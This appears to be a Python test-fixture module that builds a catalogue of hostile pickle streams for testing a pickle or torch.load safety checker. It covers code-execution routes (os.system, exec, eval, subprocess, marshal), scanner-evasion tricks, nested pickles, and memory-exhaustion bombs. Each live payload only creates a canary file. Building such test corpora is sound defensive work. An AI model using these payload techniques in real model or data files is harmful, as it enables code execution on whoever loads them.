"""Hostile pickles: how code gets to run (P1 to P5), what hides it (P4, P6, P7), and what only costs
(P8) or misleads (P9).

A body pushes one value and is planted wherever a value can stand; a whole stream is a pickle of its
own. Every live one does no more than create the file whose path it is given.
"""

from __future__ import annotations

import marshal
import struct
from collections.abc import Callable
from dataclasses import dataclass

import opcodes as o
from archives import archive, data_pkl
from opcodes import call, found, new, old, text, value

Build = Callable[[str], bytes]


@dataclass(frozen=True, slots=True)
class Stream:
    """One pickle. `whole` if `build` gives the pickle itself and not a value for one. `machine`:
    what the machine must do with it, "refuse", or "inert" where it is well formed and only the
    decoders know that nothing of the kind is wanted, or "either". `torch_runs`: whether torch.load
    of a file with it runs it too."""

    name: str
    rows: str
    live: bool
    build: Build
    whole: bool = False
    machine: str = "refuse"
    torch_runs: bool = True

    def pickle(self, canary: str) -> bytes:
        body = self.build(canary)
        return body if self.whole else o.stream(body)


STREAMS: list[Stream] = []


def live(
    name: str,
    rows: str,
    build: Build,
    *,
    whole: bool = False,
    machine: str = "inert",
    torch_runs: bool = True,
) -> None:
    STREAMS.append(Stream(name, rows, True, build, whole, machine, torch_runs))


def dead(
    name: str, rows: str, build: Build, *, whole: bool = False, machine: str = "refuse"
) -> None:
    STREAMS.append(Stream(name, rows, False, build, whole, machine))


def code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def touch(canary: str) -> bytes:
    return call(found("posix", "mknod"), canary)


MKNOD = found("posix", "mknod")


def newobj(name: str, *arguments: object) -> bytes:
    return found("builtins", name) + value(arguments) + o.NEWOBJ


def function_of(canary: str) -> bytes:
    """A function whose code came through marshal."""
    text_of = marshal.dumps(compile(code(canary), "x", "exec"))
    return call(
        found("types", "FunctionType"), call(found("marshal", "loads"), bytearray(text_of)), {}
    )


# P1: the ways to a call

live("reduce-global", "P1", lambda c: call(old("posix", "mknod"), c))
live("reduce-stack-global", "P1", touch)
live("os-system", "P1", lambda c: call(found("os", "system"), f"touch '{c}'"))
live("builtins-open", "P1", lambda c: call(found("builtins", "open"), c, "w"))
live("builtins-exec", "P1", lambda c: call(found("builtins", "exec"), code(c)))
live("builtins-eval", "P1", lambda c: call(found("builtins", "eval"), code(c)))
live("subprocess", "P1", lambda c: call(found("subprocess", "check_call"), ["touch", c]))
live("file-handler", "P1", lambda c: call(found("logging", "FileHandler"), c))
live("zip-file", "P1", lambda c: call(found("zipfile", "ZipFile"), c, "w"))
live(
    "timeit",
    "P1",
    lambda c: call(found("timeit", "timeit"), code(c), "pass", found("time", "time"), 1),
)
live("runpy", "P1", lambda c: call(found("runpy", "_run_code"), code(c), {}))
live(
    "resolve-name",
    "P1",
    lambda c: call(call(found("pkgutil", "resolve_name"), "posix:mknod"), c),
    machine="either",
)
live(
    "partial", "P1", lambda c: call(call(found("functools", "partial"), MKNOD, c)), machine="either"
)
live("partial-by-build", "P1 P5", lambda c: call(partial(MKNOD, (c,), {})), machine="either")
live(
    "getattr-chain",
    "P1",
    lambda c: call(call(found("builtins", "getattr"), imported("posix"), "mknod"), c),
    machine="either",
)
live(
    "method-caller",
    "P1",
    lambda c: call(call(found("operator", "methodcaller"), "mknod", c), imported("posix")),
    machine="either",
)
live("marshal-function", "P1", lambda c: call(function_of(c)), machine="either")
live(
    "torch-exec-wrapper",
    "P1",
    lambda c: call(found("torch.jit.unsupported_tensor_ops", "execWrapper"), code(c), {}, {}),
)
live("import-alone", "P1", lambda c: found("attack_touches_on_import", "nothing"))
live("newobj-lazy-map", "P1", lambda c: newobj("tuple", newobj("map", MKNOD, [c])))
live(
    "newobj-ex",
    "P1",
    lambda c: newobj(
        "tuple", found("builtins", "map") + value((MKNOD, [c])) + value({}) + o.NEWOBJ_EX
    ),
    machine="either",
)
live("inst", "P1", lambda c: o.MARK + text(c) + b"iposix\nmknod\n", machine="refuse")
live(
    "obj",
    "P1",
    lambda c: newobj("tuple", o.MARK + old("builtins", "map") + MKNOD + value([c]) + o.OBJ),
    machine="refuse",
)
live(
    "extension-code",
    "P1",
    lambda c: value(
        [call(found("copyreg", "add_extension"), "posix", "mknod", 119), call(b"\x82w", c)]
    ),
    machine="refuse",
)
dead(
    "setitem-on-environ",
    "P1",
    lambda c: found("os", "environ") + text("ATTACK") + text("1") + o.SETITEM,
)
dead("append-on-a-global", "P1", lambda c: found("sys", "path") + text("/tmp") + o.APPEND)
dead("persistent-id-as-text", "P1", lambda c: b"Pstorage\n")
dead("out-of-band-buffer", "P1", lambda c: b"\x97")
dead("readonly-buffer", "P1", lambda c: value(bytearray(b"x")) + b"\x98")


def partial(function: bytes, arguments: tuple[object, ...], keywords: dict[str, object]) -> bytes:
    made = found("functools", "partial") + value((function,)) + o.NEWOBJ
    return made + value((function, arguments, keywords, None)) + o.BUILD


def imported(module: str) -> bytes:
    return call(found("importlib", "import_module"), module)


# P2: a pickle inside a pickle


def nested_zip(canary: str) -> bytes:
    return archive(data_pkl(o.stream(value({"w": touch(canary)}))))


def bytes_io(raw: bytes) -> bytes:
    return (
        found("_io", "BytesIO")
        + o.EMPTY_TUPLE
        + o.NEWOBJ
        + value((bytearray(raw), 0, None))
        + o.BUILD
    )


def encoded(raw: bytes) -> bytes:
    """Bytes as protocol 2 writes them: a call that encodes text."""
    return call(found("_codecs", "encode"), raw.decode("latin1"), "latin1")


TORCH_BYTES = found("torch.storage", "_load_from_bytes")
live("load-from-bytes-legacy", "P2", lambda c: call(TORCH_BYTES, bytearray(o.legacy(touch(c)))))
live("load-from-bytes-zip", "P2", lambda c: call(TORCH_BYTES, bytearray(nested_zip(c))))
live("pickle-loads", "P2", lambda c: call(found("_pickle", "loads"), bytearray(o.stream(touch(c)))))
live(
    "pickle-loads-of-encoded-text",
    "P2",
    lambda c: call(found("_pickle", "loads"), encoded(o.stream(call(old("posix", "mknod"), c), 2))),
)
live(
    "torch-load-of-bytesio",
    "P2",
    lambda c: call(
        partial(found("torch", "load"), (bytes_io(nested_zip(c)),), {"weights_only": False})
    ),
    machine="either",
)
# as a framework reads it: what it unpickled is a file, and it calls torch.load on that
live("bytesio-that-is-loaded-later", "P2 S4", lambda c: bytes_io(nested_zip(c)), torch_runs=False)

# P3: names

live("dotted-name", "P3", lambda c: call(found("logging", "os.mknod"), c), machine="either")
live(
    "dotted-name-by-global",
    "P3",
    lambda c: call(old("torch.serialization", "os.mknod"), c),
    machine="either",
)
live(
    "dotted-name-of-an-allowed-module",
    "P3 S4",
    lambda c: call(found("transformer_engine.common.recipe", "os.mknod"), c),
    machine="either",
)
live(
    "dotted-method",
    "P3",
    lambda c: call(found("pathlib", "Path.touch"), call(found("pathlib", "PosixPath"), c)),
    machine="either",
)
dead("name-with-a-blank", "P3", lambda c: old("posix mknod", "x"))
dead("name-of-nothing", "P3", lambda c: found("posix", ""))
dead("module-of-nothing", "P3", lambda c: found("", "mknod"))
dead("name-in-other-letters", "P3 P9", lambda c: found("p\u043esix", "mknod"))
dead("name-with-a-dot-first", "P3", lambda c: found(".posix", "mknod"))
dead("name-with-a-colon", "P3", lambda c: found("posix:mknod", "x"))
dead("name-with-escapes", "P9", lambda c: found("po\x1b[31msix", "mk\nnod"))
dead("name-turned-around", "P9", lambda c: found("posix", "\u202emknod"))
dead("name-of-half-a-pair", "P9", lambda c: found("posix", "\ud800"))
dead("name-of-two-megabytes", "P8 P9", lambda c: found("a" * 1_000_000, "b" * 1_000_000))
dead("global-of-two-megabytes", "P8 P9", lambda c: old("a" * 1_000_000, "b" * 1_000_000))

# P4: what hides a call from whoever only looks at tokens

live(
    "names-from-the-memo",
    "P4",
    lambda c: call(
        text("mknod") + o.put(7) + o.POP + text("posix") + o.memoised(7) + o.STACK_GLOBAL, c
    ),
    machine="either",
)
live(
    "names-from-the-memo-of-a-tuple",
    "P4",
    lambda c: value(
        (
            text("posix") + o.put(1),
            text("mknod") + o.put(2),
            call(text("decoy") + o.POP + o.memoised(1) + o.memoised(2) + o.STACK_GLOBAL, c),
        )
    ),
    machine="either",
)
live(
    "memo-written-again",
    "P4",
    lambda c: value(
        [
            text("recipe") + o.put(1),
            text("mknod") + o.put(1),
            call(text("posix") + o.memoised(1) + o.STACK_GLOBAL, c),
        ]
    ),
    machine="refuse",
)
live(
    "name-made-by-a-call",
    "P4",
    lambda c: call(
        call(found("operator", "concat"), "po", "six") + text("mknod") + o.STACK_GLOBAL, c
    ),
    machine="refuse",
)
live("call-popped", "P4", lambda c: touch(c) + o.POP + value({"recipe": "none"}), machine="either")
live(
    "call-popped-to-the-mark",
    "P4",
    lambda c: o.MARK + touch(c) + o.POP_MARK + value({"recipe": "none"}),
    machine="either",
)
live(
    "call-memoised-and-popped",
    "P4",
    lambda c: touch(c) + o.put(9) + o.POP + value({}),
    machine="either",
)
live(
    "function-duplicated",
    "P4",
    lambda c: value([MKNOD + o.DUP + value((c,)) + o.REDUCE + o.POP, 1]),
    machine="either",
)
live(
    "text-in-two-spellings",
    "P4",
    lambda c: call(
        b"\x8c\x05posix" + b"\x8d" + struct.pack("<Q", 5) + b"mknod" + o.STACK_GLOBAL, c
    ),
)
live("protocol-again", "P4", lambda c: b"\x80\x02" + touch(c), machine="refuse")
live(
    "frame-too-short",
    "P4",
    lambda c: b"\x95" + struct.pack("<Q", 3) + touch(c),
    machine="refuse",
    torch_runs=False,
)
live(
    "tail-broken",
    "P4",
    lambda c: b"\x80\x04" + touch(c) + b"\xff\xff",
    whole=True,
    machine="refuse",
)
live("tail-missing", "P4", lambda c: b"\x80\x04" + touch(c), whole=True, machine="refuse")
live(
    "protocol-zero",
    "P4",
    lambda c: b"cposix\nmknod\n(V" + c.encode() + b"\ntR.",
    whole=True,
    machine="refuse",
)

# P5: BUILD

live(
    "setstate-installed",
    "P5",
    lambda c: new("argparse", "Namespace", {"__setstate__": MKNOD}) + text(c) + o.BUILD,
    machine="refuse",
)
live(
    "setstate-by-slots",
    "P5",
    lambda c: new("argparse", "Namespace", (None, {"__setstate__": MKNOD})) + text(c) + o.BUILD,
    machine="refuse",
)
dead(
    "build-on-a-global",
    "P5",
    lambda c: found("argparse", "Namespace") + value((None, {"x": 1})) + o.BUILD,
)
dead("build-on-a-dict", "P5", lambda c: value({}) + value({"x": 1}) + o.BUILD)
dead(
    "class-swapped",
    "P5",
    lambda c: new("argparse", "Namespace", (None, {"__class__": found("os", "_Environ")})),
    machine="either",
)
dead(
    "fields-replaced",
    "P5 P6",
    lambda c: (
        new("transformer_engine.common.recipe", "DelayedScaling", {"margin": 0})
        + value({"margin": 1})
        + o.BUILD
    ),
)

# P6: two readings

RECIPE = new("transformer_engine.common.recipe", "Float8CurrentScaling", {})
live(
    "decoy-recipe",
    "P6 S4",
    lambda c: value({"recipe": RECIPE, "extra_fp8_variables": {"x": touch(c)}}),
    machine="either",
)
dead(
    "key-twice",
    "P6 T3",
    lambda c: (
        o.EMPTY_DICT + o.MARK + value("recipe") + value(1) + value("recipe") + value(2) + o.SETITEMS
    ),
)
dead(
    "key-twice-in-two-steps",
    "P6 T3",
    lambda c: value({"recipe": 1}) + value("recipe") + value(2) + o.SETITEM,
)
dead("key-that-is-a-list", "P6", lambda c: o.EMPTY_DICT + value([]) + value(1) + o.SETITEM)
dead(
    "key-that-is-a-call",
    "P6",
    lambda c: o.EMPTY_DICT + touch(c) + value(1) + o.SETITEM,
    machine="either",
)
dead("keys-without-a-value", "P6", lambda c: o.EMPTY_DICT + o.MARK + value("a") + o.SETITEMS)

METHOD = call(
    found("builtins", "getattr"),
    found("transformer_engine.pytorch.tensor.float8_tensor", "Float8Tensor"),
    "_make_in_reduce_ex",
)
dead(
    "items-of-a-method", "P4 P5", lambda c: METHOD + touch(c) + o.APPEND + o.EMPTY_TUPLE + o.REDUCE
)
dead(
    "pairs-of-a-method",
    "P4 P5",
    lambda c: METHOD + value("a") + touch(c) + o.SETITEM + o.EMPTY_TUPLE + o.REDUCE,
)

# P7: more or less than one pickle

live(
    "bytes-after-the-end", "P7", lambda c: o.stream(touch(c)) + b"\0", whole=True, machine="refuse"
)
live("value-left-on-the-stack", "P7", lambda c: touch(c) + value(None), machine="refuse")
dead("second-pickle", "P7", lambda c: o.stream(value({})) + o.stream(touch(c)), whole=True)
dead("nothing-on-the-stack", "P7", lambda c: b"")
dead("protocol-nine", "P7", lambda c: o.stream(value({}), 9), whole=True)
dead("mark-left-open", "P7", lambda c: value({}) + o.MARK)
dead("no-bytes", "P7", lambda c: b"", whole=True)
dead("mark-crossed", "P7", lambda c: value(1) + o.MARK + o.TUPLE1)
dead("memo-hole", "P7", lambda c: o.memoised(99))
dead("text-that-is-not-utf-8", "P7", lambda c: b"\x8c\x02\xff\xfe")


# P8: costs


def repeated(opcode: bytes, times: int) -> bytes:
    return opcode * times


def doubled_tuples(levels: int) -> bytes:
    """A pair of one pair of one pair …: a few bytes for each level, and 2 ** levels places."""
    return (
        value("x")
        + o.MEMOIZE
        + b"".join(o.memoised(i) + b"\x86" + o.MEMOIZE for i in range(levels))
    )


def doubled_lists(levels: int) -> bytes:
    ends = (o.memoised(i) + o.APPENDS + o.MEMOIZE for i in range(levels))
    return (o.EMPTY_LIST + o.MARK) * levels + value("x") + o.MEMOIZE + b"".join(ends)


def doubled_dicts(levels: int) -> bytes:
    ends = (value("b") + o.memoised(i) + o.SETITEMS + o.MEMOIZE for i in range(levels))
    return (o.EMPTY_DICT + o.MARK + value("a")) * levels + value("x") + o.MEMOIZE + b"".join(ends)


DOUBLED = value("x") + (o.DUP + b"\x86") * 60
dead("integer-of-two-gigabytes", "P8", lambda c: b"\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01")
dead("integer-of-negative-length", "P8", lambda c: b"\x8b" + struct.pack("<i", -1))
dead("integer-of-255-bytes", "P8", lambda c: b"\x8a\xff" + b"\x7f" * 255)
dead("integer-in-a-million-digits", "P8", lambda c: b"I" + b"9" * 1_000_000 + b"\n")
dead("text-of-four-exabytes", "P8", lambda c: b"\x8d" + struct.pack("<Q", 2**62))
dead("bytes-of-four-exabytes", "P8", lambda c: b"\x8e" + struct.pack("<Q", 2**62))
dead("bytearray-of-a-terabyte", "P8", lambda c: b"\x96" + struct.pack("<Q", 2**40))
dead("memo-index-of-four-billion", "P8", lambda c: b"Nr" + struct.pack("<I", 2**32 - 1))
dead("frame-of-eight-exabytes", "P8", lambda c: b"\x95" + struct.pack("<Q", 2**63) + value({}))
dead("million-marks", "P8", lambda c: repeated(o.MARK, 1_000_000))
dead("two-million-values", "P8", lambda c: repeated(b"N", 2_000_000))
dead("million-tuples-deep", "P8", lambda c: value(1) + repeated(o.TUPLE1, 1_000_000))
dead(
    "million-tuples-deep-as-key",
    "P8",
    lambda c: o.EMPTY_DICT + value(1) + repeated(o.TUPLE1, 1_000_000) + value(1) + o.SETITEM,
)
dead(
    "million-lists-deep",
    "P8",
    lambda c: repeated(o.EMPTY_LIST, 50_000) + repeated(o.APPEND, 49_999),
)
dead("doubled-sixty-times", "P8", lambda c: DOUBLED, machine="either")
dead("doubled-sixty-times-as-key", "P8", lambda c: o.EMPTY_DICT + DOUBLED + value(1) + o.SETITEM)
dead("tuples-doubled-through-the-memo", "P8", lambda c: doubled_tuples(50), machine="either")
dead("lists-doubled-through-the-memo", "P8", lambda c: doubled_lists(50), machine="either")
dead("dicts-doubled-through-the-memo", "P8", lambda c: doubled_dicts(50), machine="either")
dead(
    "four-million-dicts",
    "P8",
    lambda c: o.EMPTY_LIST + (o.MARK + o.EMPTY_DICT * 1000 + o.APPENDS) * 4000,
    machine="either",
)
dead(
    "four-million-sets",
    "P8",
    lambda c: o.EMPTY_LIST + (o.MARK + o.EMPTY_SET * 1000 + o.APPENDS) * 4000,
    machine="either",
)
dead(
    "two-million-calls",
    "P8",
    lambda c: (
        o.EMPTY_LIST
        + (
            o.MARK
            + (MKNOD + o.MEMOIZE)
            + (o.memoised(0) + o.EMPTY_TUPLE + o.REDUCE) * 2000
            + o.APPENDS
            + o.MARK
        ).join([b"", b""])
        + o.APPENDS
    ),
    machine="either",
)
dead(
    "list-in-itself",
    "P8",
    lambda c: o.EMPTY_LIST + o.MEMOIZE + o.memoised(0) + o.APPEND,
    machine="either",
)
dead(
    "dict-in-itself",
    "P8",
    lambda c: o.EMPTY_DICT + o.MEMOIZE + value("x") + o.memoised(0) + o.SETITEM,
    machine="either",
)
dead(
    "keys-that-drive-a-terminal",
    "P9",
    lambda c: value({"\x1b[31mred\u202e\n": touch("nowhere")}),
    machine="either",
)
